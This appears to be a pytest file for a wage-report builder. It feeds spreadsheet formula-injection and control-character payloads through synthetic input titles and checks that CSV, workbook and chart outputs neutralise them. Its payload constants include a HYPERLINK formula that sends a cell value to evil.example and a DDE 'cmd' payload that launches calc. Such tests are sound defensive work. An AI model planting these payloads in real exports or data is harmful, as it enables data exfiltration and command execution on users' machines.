"""Hostile titles in the report exports and charts (round two): a title from an input file that a spreadsheet would
run as a formula reaches no report CSV, no CSV download link inside a page and no workbook cell as a formula; a
title holding terminal escape sequences, BEL, NUL, VT or a right-to-left override does not abort the chart
renderer (the report builds, its charts are drawn).

The project is a SYNTHETIC copy of the bundled May 2025 oe files whose titles of 29-2072, California and four
California metros carry the payloads; the national and regional reports are built from it with the CLI.
"""

from __future__ import annotations

import csv
import io
import json
from pathlib import Path

import pytest

from analysis.reports.html import embedded_downloads, packed_block
from analysis.text import FORMULA_START
from report_builds import hostile_reports

pytestmark = [pytest.mark.notebook, pytest.mark.xdist_group("hostile_reports")]

#: SYNTHETIC payloads: a formula sending a cell to a server, one running a command, plain formulas.
HYPERLINK = '+HYPERLINK("http://evil.example/?"&A2,"x")'
CMD = "-2+3+cmd|' /C calc'!A0"
FORMULAS = (HYPERLINK, CMD, "=1+1", "@SUM(1)")
#: SYNTHETIC control characters: clear the screen (ESC[2J), BEL, NUL and a right-to-left override. (A VT in an oe
#: file ends its line, so the reader refuses the file in one line; VT in a chart is tested in the unit tests.)
CONTROLS = "\x1b[2J\x07\x00\u202e"

REPLACEMENTS = {
    "oe.occupation": [("\tMedical Records Specialists\t", f"\t{HYPERLINK} Medical Records{CONTROLS} Specialists\t")],
    "oe.area": [
        ("\tCalifornia\r", "\t=1+1 California\r"),
        ("\tLos Angeles-Long Beach-Anaheim, CA\r", f"\t{CMD} Los Angeles{CONTROLS}, CA\r"),
        ("\tSan Diego-Chula Vista-Carlsbad, CA\r", "\t@SUM(1) San Diego, CA\r"),
        ("\tFresno, CA\r", f"\tFresno{CONTROLS}, CA\r"),
        ("\tSacramento-Roseville-Folsom, CA\r", f"\t{HYPERLINK}\r"),
    ],
}


@pytest.fixture(scope="module")
def reports(tmp_path_factory) -> Path:
    return hostile_reports(tmp_path_factory.mktemp("hostile-exports"), REPLACEMENTS)


def _csv_cells(text: str) -> list[str]:
    return [cell for row in csv.reader(io.StringIO(text)) for cell in row]


def _is_number(cell: str) -> bool:
    try:
        float(cell)
    except ValueError:
        return False
    return True


def _formula_cells(cells: list[str]) -> list[str]:
    """Cells a spreadsheet would run: text starting with = + - @, tab or CR (a number such as -1 is a number)."""
    return [cell for cell in cells if cell.startswith(FORMULA_START) and not _is_number(cell)]


def test_report_csvs_and_their_links_hold_no_formula(reports: Path):
    files = sorted(reports.rglob("tables/*.csv"))
    assert files, "no CSV written"
    seen: set[str] = set()
    for path in files:
        cells = _csv_cells(path.read_text(encoding="utf-8"))
        assert _formula_cells(cells) == [], path.name
        seen.update(payload for payload in FORMULAS for cell in cells if cell.startswith("'" + payload))
    assert seen == set(FORMULAS), f"payloads not found in any CSV (test does not reach them): {set(FORMULAS) - seen}"
    links = 0
    for page in sorted(reports.rglob("*.html")):
        for text in embedded_downloads(page.read_text(encoding="utf-8")).values():
            links += 1
            cells = _csv_cells(text)
            assert _formula_cells(cells) == [], page.name
    assert links, "no CSV download link in any page"


def test_workbooks_store_formula_like_titles_as_text_without_an_apostrophe(reports: Path):
    import openpyxl

    books = sorted(reports.rglob("tables/*.xlsx"))
    assert books
    seen: set[str] = set()
    for book in books:
        workbook = openpyxl.load_workbook(book)  # formulas are read as formulas (data_type "f"), not values
        for sheet in workbook:
            for row in sheet.iter_rows():
                for cell in row:
                    assert cell.data_type != "f", (book.name, sheet.title, cell.coordinate, cell.value)
                    if isinstance(cell.value, str):
                        prefixed = [p for p in FORMULAS if cell.value.startswith("'" + p)]
                        assert not prefixed, (book.name, sheet.title, cell.coordinate, cell.value)
                        if cell.value.startswith(FORMULA_START):
                            assert cell.data_type == "s" and cell.quotePrefix, (book.name, cell.coordinate)
                            seen.update(p for p in FORMULAS if cell.value.startswith(p))
    assert seen == set(FORMULAS), set(FORMULAS) - seen


def test_control_characters_in_titles_do_not_abort_the_charts(reports: Path):
    for name in ("national", "regional"):
        page = (reports / "hostile" / f"{name}.html").read_text(encoding="utf-8")
        assert "him-wages-chart" in page and "Medical Records" in page, name
        charts = page.count('<figure class="him-wages-chart"')
        packed = packed_block(page)["charts"]
        # every chart compiled to Vega by vl-convert: none aborted or failed
        assert charts and charts == sum(1 for p in packed.values() if "vega/v" in p["spec"]["$schema"]), name
        specs = [json.dumps(p["spec"], ensure_ascii=False) for p in packed.values()]
        for ch in ("\x1b", "\x07", "\x00", "\u202e"):
            assert not [spec for spec in specs if ch in spec or json.dumps(ch)[1:-1] in spec], (name, repr(ch))
